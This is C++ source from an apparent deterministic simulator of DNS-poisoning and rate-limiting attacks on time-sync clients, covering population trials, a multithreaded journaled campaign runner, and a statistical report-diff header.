  JournalMerge merge(dir);
  if (!merge.valid()) {
    throw std::runtime_error("no valid trial journal in '" + dir + "'");
  }
  const JournalMeta& meta = merge.meta();
  std::vector<ScenarioAggregateBuilder> builders;
  builders.reserve(meta.scenarios.size());
  for (const JournalMeta::Scenario& s : meta.scenarios) {
    builders.emplace_back(s.name, s.attack, include_trials);
  }
  JournalRecord rec;
  while (merge.next(rec)) {
    builders[rec.scenario].add(std::move(rec.result));
  }
  CampaignReport report;
  report.seed = meta.campaign_seed;
  report.trials_per_scenario = meta.trials_per_scenario;
  report.scenarios.reserve(builders.size());
  for (ScenarioAggregateBuilder& b : builders) {
    report.scenarios.push_back(std::move(b).finish());
  }
  return report;
}

}  // namespace dnstime::campaign::store
