// Population-scale kCustom trials: fleets of clients on
// scenario::ClientPopulation instead of a single victim host.
//
// Both trials report the fleet-shift metric: TrialResult::metric is the
// fraction of the fleet shifted past the scenario's success_shift (or the
// herd-exhaustion fraction for the rate-limit scenario), and
// clock_shift_s is the fleet's mean shift. No new report fields — the
// single-victim report schema (and its byte-identical baselines) are
// untouched.
#include "attack/cache_poisoner.h"
#include "campaign/scenario_spec.h"
#include "scenario/population.h"

namespace dnstime::campaign {
namespace {

using scenario::ClientPopulation;
using scenario::PopulationConfig;
using scenario::World;
using sim::Duration;

/// The poisoning opener. Unlike the single-victim trials there is no
/// attacker-side query trigger: the fleet warmed the shared resolver's
/// cache, so the poisoner just keeps fragments planted and the fleet's own
/// TTL-rollover re-resolution is the query that reassembles with them.
void arm_poisoner(World& world, attack::CachePoisoner& poisoner) {
  poisoner.start();
  world.run_for(Duration::seconds(30));
}

TrialResult shared_resolver_trial(const ScenarioSpec& spec,
                                  const TrialContext& ctx) {
  TrialResult result;
  scenario::WorldConfig wc = spec.world;
  wc.seed = ctx.seed;
  World world(wc);

  PopulationConfig pc;
  pc.clients = spec.population_clients;
  pc.seed = ctx.seed;
  ClientPopulation pop(world, pc);

  // Warm-up: the fleet resolves honestly and synchronises to true time
  // (one full poll interval plus DNS/exchange slack).
  world.run_for(Duration::seconds(static_cast<i64>(pc.poll_s) + 30));

  const sim::Time attack_start = world.loop().now();
  attack::CachePoisoner poisoner(world.attacker(),
                                 world.default_poisoner_config());
  arm_poisoner(world, poisoner);

  // Migration takes two TTL rollovers (hijack the delegation, then serve
  // attacker A records) plus re-poll slack; run in slices and stop as
  // soon as a fleet majority has shifted.
  const double threshold = spec.stop.success_shift;
  const Duration budget =
      Duration::seconds(2 * static_cast<i64>(wc.pool_a_ttl) +
                        3 * static_cast<i64>(pc.poll_s)) +
      spec.stop.settle;
  Duration spent;
  const Duration slice = Duration::seconds(10);
  while (spent < budget && pop.fraction_shifted(threshold) < 0.5) {
    world.run_for(slice);
    spent = spent + slice;
  }

  result.metric = pop.fraction_shifted(threshold);
  result.clock_shift_s = pop.mean_shift_s();
  result.success = result.metric >= 0.5;
  result.duration_s =
      (world.loop().now() - attack_start).to_seconds();
  result.fragments_planted = poisoner.fragments_planted();
  result.replant_rounds = poisoner.replant_rounds();
  return result;
}

TrialResult ratelimit_herd_trial(const ScenarioSpec& spec,
                                 const TrialContext& ctx) {
  TrialResult result;
  scenario::WorldConfig wc = spec.world;
  wc.seed = ctx.seed;
  World world(wc);

  PopulationConfig pc;
  pc.clients = spec.population_clients;
  pc.seed = ctx.seed;
  // Few gateways against a small pool: the per-source token buckets see
  // the herd, not a diluted trickle.
  pc.gateways = 4;
  pc.batch_cap = 64;
  ClientPopulation pop(world, pc);

  const sim::Time start = world.loop().now();
  world.run_for(Duration::seconds(static_cast<i64>(pc.poll_s) * 5));

  const ClientPopulation::Metrics& m = pop.metrics();
  const u64 starved = m.kod_polls + m.timeout_polls;
  result.metric = m.polls == 0 ? 0.0
                               : static_cast<double>(starved) /
                                     static_cast<double>(m.polls);
  result.clock_shift_s = pop.mean_shift_s();
  result.success = m.kod_polls > 0;
  result.duration_s = (world.loop().now() - start).to_seconds();
  return result;
}

}  // namespace

ScenarioSpec population_shared_resolver_scenario(u32 clients) {
  ScenarioSpec spec;
  spec.name =
      "population/shared-resolver-" + std::to_string(clients / 1000) + "k";
  spec.description =
      "one resolver poisoning migrating across a fleet of " +
      std::to_string(clients) + " clients as DNS TTLs roll over";
  spec.attack = AttackKind::kCustom;
  spec.population_clients = clients;
  spec.stop.deadline = sim::Duration::minutes(15);
  spec.stop.settle = sim::Duration::minutes(2);
  spec.trial_fn = shared_resolver_trial;
  return spec;
}

ScenarioSpec population_ratelimit_herd_scenario(u32 clients) {
  ScenarioSpec spec;
  spec.name =
      "population/ratelimit-herd-" + std::to_string(clients / 1000) + "k";
  spec.description =
      "a fleet of " + std::to_string(clients) +
      " clients starving a small, fully rate-limiting pool (herd KoD)";
  spec.attack = AttackKind::kCustom;
  spec.population_clients = clients;
  spec.world.pool_size = 4;
  spec.world.rate_limit_fraction = 1.0;
  spec.world.kod_fraction = 1.0;
  spec.stop.deadline = sim::Duration::minutes(10);
  spec.stop.settle = sim::Duration::minutes(1);
  spec.trial_fn = ratelimit_herd_trial;
  return spec;
}

}  // namespace dnstime::campaign
