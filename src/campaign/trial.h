// One trial = one fully isolated deterministic World, one attack, one
// result. Trials own every object they create (poisoners included), so a
// worker thread can run any number of them with no shared state and no
// process-global keepalives.
#pragma once

#include "campaign/scenario_spec.h"

namespace dnstime::campaign {

/// Executes one trial of `spec` with the identity in `ctx`. Dispatches on
/// spec.attack (or spec.trial_fn for AttackKind::kCustom). Deterministic:
/// equal (spec, ctx.seed) pairs produce equal results on any thread.
/// Throws only on misconfiguration (e.g. kCustom without a trial_fn);
/// attack failure is reported via TrialResult::success.
[[nodiscard]] TrialResult run_trial(const ScenarioSpec& spec,
                                    const TrialContext& ctx);

}  // namespace dnstime::campaign
