#include "campaign/runner.h"

#include <atomic>
#include <chrono>
#include <cstdio>
#include <exception>
#include <filesystem>
#include <memory>
#include <mutex>
#include <stdexcept>
#include <thread>
#include <unordered_map>

#include "campaign/store/journal.h"
#include "campaign/store/journal_reader.h"
#include "campaign/store/shard_writer.h"
#include "campaign/trial.h"
#include "common/rng.h"
#include "common/stats.h"
#include "obs/counters.h"
#include "obs/json_util.h"
#include "obs/provenance.h"
#include "obs/trace.h"

namespace dnstime::campaign {
namespace {

enum class DumpOn { kAuto, kError, kTimeout, kAttackFailed, kAlways };

DumpOn parse_dump_on(const std::string& s) {
  if (s == "auto") return DumpOn::kAuto;
  if (s == "error") return DumpOn::kError;
  if (s == "timeout") return DumpOn::kTimeout;
  if (s == "attack-failed") return DumpOn::kAttackFailed;
  if (s == "always") return DumpOn::kAlways;
  throw std::invalid_argument(
      "unknown dump predicate '" + s +
      "' (expected auto, error, timeout, attack-failed or always)");
}

#if DNSTIME_OBS
/// A deadline timeout presents as an unsuccessful trial that consumed the
/// whole attack deadline without raising an error.
bool timed_out(const ScenarioSpec& spec, const TrialResult& r) {
  return !r.success && r.error.empty() &&
         r.duration_s >= spec.stop.deadline.to_seconds() - 1e-9;
}

bool should_dump(DumpOn mode, const ScenarioSpec& spec,
                 const TrialResult& r) {
  switch (mode) {
    case DumpOn::kAuto:
      return !r.error.empty() || timed_out(spec, r);
    case DumpOn::kError:
      return !r.error.empty();
    case DumpOn::kTimeout:
      return timed_out(spec, r);
    case DumpOn::kAttackFailed:
      return !r.success;
    case DumpOn::kAlways:
      return true;
  }
  return false;
}

/// `<scenario>-t<trial>.json`, scenario sanitised to filename-safe chars
/// ('/' in names like "table2/ntpd-known" becomes '_').
std::string dump_file_name(const std::string& scenario, u32 trial) {
  std::string name;
  name.reserve(scenario.size() + 16);
  for (char c : scenario) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_' || c == '-';
    name.push_back(ok ? c : '_');
  }
  name += "-t";
  name += std::to_string(trial);
  name += ".json";
  return name;
}
#endif  // DNSTIME_OBS

}  // namespace

u64 CampaignRunner::trial_seed(u64 campaign_seed, const ScenarioSpec& scenario,
                               u32 trial) {
  // FNV-1a over the scenario name (the same hash that keys journal
  // records): the scenario's contribution to a trial seed depends on its
  // identity, not its position in the campaign.
  return mix_seed(campaign_seed, store::fnv1a(scenario.name), trial);
}

u32 CampaignRunner::resolve_threads(std::size_t pending) const {
  u32 threads = config_.threads;
  if (threads == 0) {
    threads = std::max(1u, std::thread::hardware_concurrency());
  }
  // Oversubscription is harmless (reports never depend on the pool size),
  // but an absurd request would burn through OS threads — and one shard
  // writer each — before failing with EAGAIN; 1024 workers saturates any
  // realistic host.
  constexpr u32 kMaxThreads = 1024;
  threads = std::min(threads, kMaxThreads);
  return static_cast<u32>(
      std::min<std::size_t>(threads, std::max<std::size_t>(pending, 1)));
}

void CampaignRunner::execute(const std::vector<ScenarioSpec>& scenarios,
                             const std::vector<u8>* skip, u32 threads,
                             const TrialSink& sink) const {
  const u32 trials = config_.trials;
  const std::size_t total = scenarios.size() * trials;

  const bool tracing = !config_.trace_path.empty();
  std::string trace_json;  // written only by the traced trial's worker

#if DNSTIME_OBS
  const bool dumping = !config_.dump_dir.empty();
  const DumpOn dump_mode =
      dumping ? parse_dump_on(config_.dump_on) : DumpOn::kAuto;
  if (dumping) std::filesystem::create_directories(config_.dump_dir);
#endif

  // Live progress stream (JSON Lines). Opened before any trial runs so a
  // bad path fails the campaign up front; writes after that are
  // best-effort (a full disk must not kill hours of trials over a watch
  // stream). Everything below that touches wall time feeds only this
  // stream, which CampaignConfig documents as outside the byte-identity
  // contract.
  std::FILE* progress_file = nullptr;
  if (!config_.progress_path.empty()) {
    progress_file = std::fopen(config_.progress_path.c_str(), "wb");
    if (progress_file == nullptr) {
      throw std::runtime_error("cannot open progress file '" +
                               config_.progress_path + "' for writing");
    }
  }
  const auto close_file = [](std::FILE* f) {
    if (f != nullptr) std::fclose(f);
  };
  std::unique_ptr<std::FILE, decltype(close_file)> progress_guard(
      progress_file, close_file);
  struct ScenarioProgress {
    u32 done = 0;
    u32 successes = 0;
  };
  std::vector<ScenarioProgress> progress_state(
      progress_file != nullptr ? scenarios.size() : 0);
  std::size_t executed_total = 0;  // guarded by error_mutex
  std::size_t pending_total = total;
  if (skip != nullptr) {
    for (u8 s : *skip) {
      if (s != 0) pending_total--;
    }
  }
  // det-lint: allow(wallclock) elapsed/ETA for the progress stream only
  const auto campaign_start = std::chrono::steady_clock::now();

  std::atomic<std::size_t> next{0};
  std::atomic<bool> abort{false};
  std::mutex error_mutex;  // serialises progress_ and the error slots
  std::exception_ptr sink_error;      // first throw from sink, if any
  std::exception_ptr progress_error;  // first throw from progress_, if any
  std::exception_ptr dump_error;      // first failed narrative dump write
  auto worker = [&](u32 worker_id) {
#if DNSTIME_OBS
    // Wall-clock utilisation, exported once per worker on any exit path.
    // These are the only wall-time metrics in the campaign and exist only
    // in the (nondeterministic by nature) metrics section, never in the
    // report body.
    struct WallObs {
      // det-lint: allow(wallclock) worker-utilisation telemetry; feeds only
      std::chrono::steady_clock::time_point start =
          // det-lint: allow(wallclock) the --metrics section, never a report
          std::chrono::steady_clock::now();
      u64 executed = 0;
      double busy_s = 0.0;
      ~WallObs() {
        const double total_s =
            // det-lint: allow(wallclock) busy/idle telemetry, metrics-only
            std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                          start)
                .count();
        const double idle_s = total_s > busy_s ? total_s - busy_s : 0.0;
        DNSTIME_COUNT("campaign.workers");
        DNSTIME_COUNT_ADD("campaign.trials_executed", executed);
        DNSTIME_COUNT_ADD("campaign.worker_busy_us",
                          static_cast<u64>(busy_s * 1e6));
        DNSTIME_COUNT_ADD("campaign.worker_idle_us",
                          static_cast<u64>(idle_s * 1e6));
      }
    } wall;
#endif
    for (std::size_t i = next.fetch_add(1); i < total;
         i = next.fetch_add(1)) {
      if (abort.load(std::memory_order_relaxed)) return;
      if (skip != nullptr && (*skip)[i] != 0) continue;
      const std::size_t scenario_idx = i / trials;
      const u32 trial_idx = static_cast<u32>(i % trials);
      const ScenarioSpec& spec = scenarios[scenario_idx];
      TrialContext ctx;
      ctx.campaign_seed = config_.seed;
      ctx.trial = trial_idx;
      ctx.seed = trial_seed(config_.seed, spec, trial_idx);
#if DNSTIME_OBS
      // det-lint: allow(wallclock) trial_wall_us histogram, metrics-only
      const auto trial_start = std::chrono::steady_clock::now();
#endif
      TrialResult result;
      auto execute_trial = [&] {
        try {
          result = run_trial(spec, ctx);
        } catch (const std::exception& e) {
          result.trial = trial_idx;
          result.seed = ctx.seed;
          result.error = e.what();
        } catch (...) {
          result.trial = trial_idx;
          result.seed = ctx.seed;
          result.error = "unknown exception";
        }
      };
#if DNSTIME_OBS
      // Always-on flight recorder: installed before the trial constructs
      // its World (the World feeds it the attacker-controlled addresses)
      // and observing sim time only, so recording never perturbs results.
      obs::FlightRecorder flight;
      flight.set_meta(spec.name, config_.seed, trial_idx, ctx.seed);
      obs::ScopedFlightRecorder flight_install(&flight);
#endif
      if (tracing && i == config_.trace_index) {
        obs::TraceRecorder recorder;
        recorder.set_meta(spec.name, config_.seed, trial_idx);
        obs::ScopedTrace install(&recorder);
        execute_trial();
        trace_json = recorder.to_json();  // read after the pool joins
        DNSTIME_COUNT_ADD("obs.trace_events", recorder.size());
        DNSTIME_COUNT_ADD("obs.trace_dropped", recorder.dropped());
      } else {
        execute_trial();
      }
#if DNSTIME_OBS
      if (!result.error.empty()) flight.error(result.error);
      DNSTIME_HIST("obs.flight_ring_occupancy",
                   static_cast<u64>(flight.size()));
      DNSTIME_COUNT_ADD("obs.flight_events", flight.recorded());
      DNSTIME_COUNT_ADD("obs.flight_overwritten", flight.overwritten());
      if (dumping && should_dump(dump_mode, spec, result)) {
        obs::FlightRecorder::DumpContext dctx;
        dctx.has_result = true;
        dctx.success = result.success;
        dctx.duration_s = result.duration_s;
        dctx.clock_shift_s = result.clock_shift_s;
        dctx.error = result.error;
        const std::string json = flight.to_json(dctx);
        const std::string path =
            (std::filesystem::path(config_.dump_dir) /
             dump_file_name(spec.name, trial_idx))
                .string();
        std::FILE* f = std::fopen(path.c_str(), "wb");
        bool ok = f != nullptr;
        if (ok) {
          ok = std::fwrite(json.data(), 1, json.size(), f) == json.size();
          ok = (std::fclose(f) == 0) && ok;
        }
        if (!ok) {
          // Losing forensics is worth failing the run over, but not worth
          // aborting trials already in flight: capture the first write
          // failure and rethrow it after the pool joins.
          std::lock_guard<std::mutex> lock(error_mutex);
          if (!dump_error) {
            dump_error = std::make_exception_ptr(std::runtime_error(
                "cannot write narrative dump '" + path + "'"));
          }
        }
      }
#endif
#if DNSTIME_OBS
      const double trial_s =
          // det-lint: allow(wallclock) trial_wall_us histogram, metrics-only
          std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                        trial_start)
              .count();
      wall.busy_s += trial_s;
      wall.executed++;
      DNSTIME_HIST("campaign.trial_wall_us", static_cast<u64>(trial_s * 1e6));
#endif
      // Store the result before notifying: a throwing or slow progress
      // callback must never lose (or observe a not-yet-stored) trial.
      const TrialResult* stored = nullptr;
      try {
        stored = &sink(worker_id, scenario_idx, trial_idx, std::move(result));
      } catch (...) {
        // A sink failure (e.g. journal disk full) means results are being
        // lost: stop the campaign and rethrow from run() after the join.
        std::lock_guard<std::mutex> lock(error_mutex);
        if (!sink_error) sink_error = std::current_exception();
        abort.store(true);
        return;
      }
      if (progress_file != nullptr) {
        const double elapsed_s =
            // det-lint: allow(wallclock) ETA for the progress stream only
            std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                          campaign_start)
                .count();
        std::lock_guard<std::mutex> lock(error_mutex);
        ScenarioProgress& sp = progress_state[scenario_idx];
        sp.done++;
        if (stored->success) sp.successes++;
        executed_total++;
        const WilsonInterval ci = wilson_interval(sp.successes, sp.done);
        const std::size_t remaining = pending_total - executed_total;
        std::string line;
        line.reserve(256);
        line += "{\"scenario\":\"";
        obs::append_escaped(line, spec.name.c_str());
        line += "\",\"trial\":";
        line += std::to_string(trial_idx);
        line += ",\"success\":";
        line += stored->success ? "true" : "false";
        line += ",\"done\":";
        line += std::to_string(sp.done);
        line += ",\"trials\":";
        line += std::to_string(trials);
        line += ",\"successes\":";
        line += std::to_string(sp.successes);
        line += ",\"rate\":";
        obs::append_double(line, static_cast<double>(sp.successes) /
                                     static_cast<double>(sp.done));
        line += ",\"wilson_low\":";
        obs::append_double(line, ci.low);
        line += ",\"wilson_high\":";
        obs::append_double(line, ci.high);
        line += ",\"campaign_done\":";
        line += std::to_string(executed_total);
        line += ",\"campaign_total\":";
        line += std::to_string(pending_total);
        line += ",\"elapsed_s\":";
        obs::append_double(line, elapsed_s);
        line += ",\"eta_s\":";
        obs::append_double(line,
                           elapsed_s * static_cast<double>(remaining) /
                               static_cast<double>(executed_total));
        line += "}\n";
        std::fputs(line.c_str(), progress_file);
        std::fflush(progress_file);
      }
      if (progress_) {
        std::lock_guard<std::mutex> lock(error_mutex);
        if (!progress_error) {
          try {
            progress_(spec, *stored);
          } catch (...) {
            // An escaping exception on a worker thread would terminate the
            // process; capture the first one and rethrow it from run()
            // after the pool joins. Later trials still execute, but their
            // progress notifications are suppressed.
            progress_error = std::current_exception();
          }
        }
      }
    }
  };

  if (threads <= 1) {
    worker(0);
  } else {
    std::vector<std::thread> pool;
    pool.reserve(threads);
    for (u32 t = 0; t < threads; ++t) pool.emplace_back(worker, t);
    for (auto& t : pool) t.join();
  }
  if (sink_error) std::rethrow_exception(sink_error);
  if (progress_error) std::rethrow_exception(progress_error);
  if (dump_error) std::rethrow_exception(dump_error);

  if (tracing) {
    if (trace_json.empty()) {
      // Resumed campaign whose traced trial was already journaled: nothing
      // re-executed, so there is nothing to trace.
      std::fprintf(stderr,
                   "dnstime: trace index %llu was skipped (already "
                   "journaled); no trace written to %s\n",
                   static_cast<unsigned long long>(config_.trace_index),
                   config_.trace_path.c_str());
      return;
    }
    std::FILE* f = std::fopen(config_.trace_path.c_str(), "wb");
    if (f == nullptr) {
      throw std::runtime_error("cannot open trace file '" +
                               config_.trace_path + "' for writing");
    }
    const std::size_t written =
        std::fwrite(trace_json.data(), 1, trace_json.size(), f);
    const bool ok = written == trace_json.size() && std::fclose(f) == 0;
    if (!ok) {
      throw std::runtime_error("short write to trace file '" +
                               config_.trace_path + "'");
    }
  }
}

CampaignReport CampaignRunner::run(
    const std::vector<ScenarioSpec>& scenarios) const {
  if (!config_.trace_path.empty()) {
    const std::size_t total = scenarios.size() * config_.trials;
    if (config_.trace_index >= total) {
      throw std::invalid_argument(
          "trace index " + std::to_string(config_.trace_index) +
          " out of range: campaign has " + std::to_string(total) +
          " trials (scenario_index * trials + trial_index)");
    }
  }
  if (!config_.dump_dir.empty()) {
    (void)parse_dump_on(config_.dump_on);  // reject bad predicates early
#if !DNSTIME_OBS
    throw std::invalid_argument(
        "narrative dumps require an observability build (DNSTIME_OBS=1)");
#endif
  }
  return config_.journal_dir.empty() ? run_in_memory(scenarios)
                                     : run_journaled(scenarios);
}

CampaignReport CampaignRunner::run_in_memory(
    const std::vector<ScenarioSpec>& scenarios) const {
  const u32 trials = config_.trials;

  // One pre-sized slot per (scenario, trial): workers write disjoint slots,
  // so the only synchronisation the results need is the final join.
  std::vector<std::vector<TrialResult>> results(scenarios.size());
  for (auto& slot : results) slot.resize(trials);

  execute(scenarios, /*skip=*/nullptr,
          resolve_threads(scenarios.size() * trials),
          [&results](u32, std::size_t scenario_idx, u32 trial_idx,
                     TrialResult&& r) -> const TrialResult& {
            results[scenario_idx][trial_idx] = std::move(r);
            return results[scenario_idx][trial_idx];
          });

  CampaignReport report;
  report.seed = config_.seed;
  report.trials_per_scenario = trials;
  report.scenarios.reserve(scenarios.size());
  for (std::size_t i = 0; i < scenarios.size(); ++i) {
    report.scenarios.push_back(
        ScenarioAggregate::from_results(scenarios[i], std::move(results[i])));
  }
  return report;
}

CampaignReport CampaignRunner::run_journaled(
    const std::vector<ScenarioSpec>& scenarios) const {
  namespace fs = std::filesystem;
  const u32 trials = config_.trials;
  const std::size_t total = scenarios.size() * trials;
  const std::string& dir = config_.journal_dir;

  const store::JournalMeta meta =
      store::JournalMeta::describe(config_.seed, trials, scenarios);
  {
    // Fail before running (or journaling) anything: records are keyed by
    // scenario-name hash, so duplicate names — legal nowhere, but only
    // caught lazily on the in-memory path — would make the journal
    // unreadable after hours of work instead of erroring now.
    std::unordered_map<u64, const std::string*> names;
    names.reserve(meta.scenarios.size());
    for (const store::JournalMeta::Scenario& s : meta.scenarios) {
      auto [it, inserted] = names.emplace(store::fnv1a(s.name), &s.name);
      if (!inserted) {
        throw std::invalid_argument(
            "cannot journal campaign: scenario name '" + s.name +
            (*it->second == s.name ? "' is duplicated"
                                   : "' hash-collides with '" +
                                         *it->second + "'"));
      }
    }
  }
  fs::create_directories(dir);

  store::JournalScan scan = store::scan_journal(dir);
  if (!scan.shards.empty() && !config_.resume) {
    throw std::runtime_error(
        "journal directory '" + dir +
        "' already contains shards; pass resume (--resume) to continue "
        "that campaign or point --journal at a fresh directory");
  }

  std::vector<u8> skip;
  std::size_t done = 0;
  u32 next_shard_id = 0;
  for (const store::ShardState& st : scan.shards) {
    next_shard_id = std::max(next_shard_id, st.shard_id + 1);
  }
  if (config_.resume && scan.found) {
    if (scan.meta.campaign_seed != meta.campaign_seed) {
      throw std::runtime_error(
          "cannot resume: journal '" + dir + "' was written with seed " +
          std::to_string(scan.meta.campaign_seed) + ", this campaign uses " +
          std::to_string(meta.campaign_seed));
    }
    if (scan.meta.trials_per_scenario != meta.trials_per_scenario) {
      throw std::runtime_error(
          "cannot resume: journal '" + dir + "' ran " +
          std::to_string(scan.meta.trials_per_scenario) +
          " trials/scenario, this campaign runs " +
          std::to_string(meta.trials_per_scenario));
    }
    if (scan.meta.fingerprint() != meta.fingerprint()) {
      throw std::runtime_error("cannot resume: journal '" + dir +
                               "' describes a different scenario set");
    }
    skip.assign(total, u8{0});
    for (std::size_t s = 0; s < scan.done.size(); ++s) {
      for (u32 t = 0; t < trials; ++t) {
        if (scan.done[s][t] != 0) {
          skip[s * trials + t] = 1;
          done++;
        }
      }
    }
  }
  if (config_.resume) {
    // Identity verified: make the journal physically clean before
    // appending new shards — torn tails are cut back to the last valid
    // frame, header-less crash debris is removed.
    store::truncate_torn_tails(scan);
  }

  const std::size_t pending = total - done;
  const u32 threads = resolve_threads(pending);

  // One private shard per worker: the journal write path takes no lock.
  // Writers open their file lazily, so an idle worker leaves no shard.
  std::vector<store::ShardWriter> writers;
  writers.reserve(threads);
  for (u32 w = 0; w < threads; ++w) {
    writers.emplace_back(dir, meta, next_shard_id + w);
  }
  if (pending > 0) {
    execute(scenarios, skip.empty() ? nullptr : &skip, threads,
            [&writers](u32 worker_id, std::size_t scenario_idx, u32,
                       TrialResult&& r) -> const TrialResult& {
              writers[worker_id].append(static_cast<u32>(scenario_idx), r);
              return r;  // the worker's local outlives the progress call
            });
  }
  for (store::ShardWriter& w : writers) w.close();

  // Streaming fold over the shards merged back into trial-index order: no
  // results vector ever holds the campaign — resident TrialResult storage
  // stays O(workers + scenarios); only the exact p50/p90 quantiles keep
  // per-success duration samples (8 bytes each) inside the builders.
  std::vector<ScenarioAggregateBuilder> builders;
  builders.reserve(scenarios.size());
  for (const ScenarioSpec& spec : scenarios) {
    builders.emplace_back(spec.name, to_string(spec.attack),
                          /*keep_results=*/false);
  }
  std::vector<u32> counts(scenarios.size(), 0);
  if (total > 0) {
    store::JournalMerge merge(dir);
    if (merge.valid()) {
      store::JournalRecord rec;
      while (merge.next(rec)) {
        counts[rec.scenario]++;
        builders[rec.scenario].add(std::move(rec.result));
      }
    }
  }
  for (std::size_t s = 0; s < scenarios.size(); ++s) {
    if (counts[s] != trials) {
      throw std::runtime_error(
          "journal '" + dir + "' is incomplete after the run: scenario '" +
          scenarios[s].name + "' has " + std::to_string(counts[s]) + " of " +
          std::to_string(trials) + " trials");
    }
  }

  CampaignReport report;
  report.seed = config_.seed;
  report.trials_per_scenario = trials;
  report.scenarios.reserve(builders.size());
  for (ScenarioAggregateBuilder& b : builders) {
    report.scenarios.push_back(std::move(b).finish());
  }
  return report;
}

}  // namespace dnstime::campaign
