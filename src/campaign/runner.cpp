#include "campaign/runner.h"

#include <atomic>
#include <exception>
#include <mutex>
#include <thread>

#include "campaign/trial.h"
#include "common/rng.h"

namespace dnstime::campaign {
namespace {

/// FNV-1a over the scenario name: the scenario's contribution to a trial
/// seed depends on its identity, not its position in the campaign.
u64 name_hash(const std::string& name) {
  u64 h = 0xCBF29CE484222325ull;
  for (unsigned char c : name) {
    h ^= c;
    h *= 0x100000001B3ull;
  }
  return h;
}

}  // namespace

u64 CampaignRunner::trial_seed(u64 campaign_seed, const ScenarioSpec& scenario,
                               u32 trial) {
  return mix_seed(campaign_seed, name_hash(scenario.name), trial);
}

CampaignReport CampaignRunner::run(
    const std::vector<ScenarioSpec>& scenarios) const {
  const u32 trials = config_.trials;
  const std::size_t total = scenarios.size() * trials;

  // One pre-sized slot per (scenario, trial): workers write disjoint slots,
  // so the only synchronisation the results need is the final join.
  std::vector<std::vector<TrialResult>> results(scenarios.size());
  for (auto& slot : results) slot.resize(trials);

  std::atomic<std::size_t> next{0};
  std::mutex progress_mutex;
  std::exception_ptr progress_error;  // first throw from progress_, if any
  auto worker = [&] {
    for (std::size_t i = next.fetch_add(1); i < total;
         i = next.fetch_add(1)) {
      const std::size_t scenario_idx = i / trials;
      const u32 trial_idx = static_cast<u32>(i % trials);
      const ScenarioSpec& spec = scenarios[scenario_idx];
      TrialContext ctx;
      ctx.campaign_seed = config_.seed;
      ctx.trial = trial_idx;
      ctx.seed = trial_seed(config_.seed, spec, trial_idx);
      TrialResult result;
      try {
        result = run_trial(spec, ctx);
      } catch (const std::exception& e) {
        result.trial = trial_idx;
        result.seed = ctx.seed;
        result.error = e.what();
      } catch (...) {
        result.trial = trial_idx;
        result.seed = ctx.seed;
        result.error = "unknown exception";
      }
      // Store the result before notifying: a throwing or slow progress
      // callback must never lose (or observe a not-yet-stored) trial.
      results[scenario_idx][trial_idx] = std::move(result);
      if (progress_) {
        std::lock_guard<std::mutex> lock(progress_mutex);
        if (!progress_error) {
          try {
            progress_(spec, results[scenario_idx][trial_idx]);
          } catch (...) {
            // An escaping exception on a worker thread would terminate the
            // process; capture the first one and rethrow it from run()
            // after the pool joins. Later trials still execute, but their
            // progress notifications are suppressed.
            progress_error = std::current_exception();
          }
        }
      }
    }
  };

  u32 threads = config_.threads;
  if (threads == 0) {
    threads = std::max(1u, std::thread::hardware_concurrency());
  }
  threads = static_cast<u32>(
      std::min<std::size_t>(threads, std::max<std::size_t>(total, 1)));
  if (threads <= 1) {
    worker();
  } else {
    std::vector<std::thread> pool;
    pool.reserve(threads);
    for (u32 t = 0; t < threads; ++t) pool.emplace_back(worker);
    for (auto& t : pool) t.join();
  }
  if (progress_error) std::rethrow_exception(progress_error);

  CampaignReport report;
  report.seed = config_.seed;
  report.trials_per_scenario = trials;
  report.scenarios.reserve(scenarios.size());
  for (std::size_t i = 0; i < scenarios.size(); ++i) {
    report.scenarios.push_back(
        ScenarioAggregate::from_results(scenarios[i], std::move(results[i])));
  }
  return report;
}

}  // namespace dnstime::campaign
