// Cross-campaign comparison: match two CampaignReports scenario-by-name,
// compute per-metric deltas and annotate each with a statistical verdict.
//
// Test selection per metric:
//   * success_rate      — two-proportion z-test over (successes, trials);
//                         works from aggregates alone.
//   * duration_mean_s   — Welch's t-test over the successful trials'
//                         durations when both reports carry per-trial
//                         results; otherwise a normal-approximation
//                         fallback from aggregates, with sigma estimated
//                         from the p50/p90 spread ((p90-p50)/z_0.9 under a
//                         normality assumption). Journaled-run reports
//                         serialise aggregates only, so the fallback is
//                         what keeps them diffable.
//   * shift_mean_s,
//     metric_mean       — Welch's t-test when trial data is available on
//                         both sides (aggregates carry no variance, so
//                         there is no fallback: delta reported untested).
//   * duration_dist     — two-sample Kolmogorov-Smirnov over the success
//                         durations (trial data only): catches shape
//                         drift that leaves the mean unchanged.
//   * duration_p50_s/p90_s — deltas only, never tested (quantile deltas
//                         are reported for humans; significance comes
//                         from the mean and KS rows).
//
// Verdict semantics: against a pinned baseline artifact, ANY
// statistically significant movement is a reproduction regression — an
// "improvement" still means the committed baseline no longer describes
// the code. Verdicts keep the direction for human readers (improved /
// regressed / shifted), but the gate (`regressions()`, and the
// campaign_diff CLI's --fail-on-regression) counts every significant
// delta, plus every scenario that disappeared from the candidate.
#pragma once

#include <string>
#include <vector>

#include "campaign/report.h"

namespace dnstime::campaign::diff {

enum class Verdict {
  kUnchanged,  ///< not significant at alpha, or no test applicable
  kImproved,   ///< significant, in the metric's "better" direction
  kRegressed,  ///< significant, in the metric's "worse" direction
  kShifted,    ///< significant, direction-less metric (distribution drift)
};

[[nodiscard]] const char* to_string(Verdict v);

struct MetricDelta {
  std::string metric;      ///< "success_rate", "duration_mean_s", ...
  double baseline = 0.0;   ///< NaN when the side has no such value
  double candidate = 0.0;
  double delta = 0.0;      ///< candidate - baseline (duration_dist: KS D)
  std::string test;        ///< "two-proportion-z", "welch-t",
                           ///< "normal-approx", "ks", "none"
  double statistic = 0.0;  ///< z, t or D; 0 when untested
  double df = 0.0;         ///< Welch-Satterthwaite df (t-tests only)
  double p = 1.0;          ///< two-sided p-value; NaN when test == "none"
  Verdict verdict = Verdict::kUnchanged;
};

struct ScenarioDiff {
  std::string name;
  std::string attack;
  bool in_baseline = false;
  bool in_candidate = false;
  /// Empty unless the scenario exists on both sides.
  std::vector<MetricDelta> metrics;
};

struct DiffOptions {
  /// Significance level for verdict annotation (two-sided).
  double alpha = 0.05;
};

struct DiffResult {
  double alpha = 0.05;
  u64 baseline_seed = 0;
  u64 candidate_seed = 0;
  u32 baseline_trials = 0;   ///< trials_per_scenario
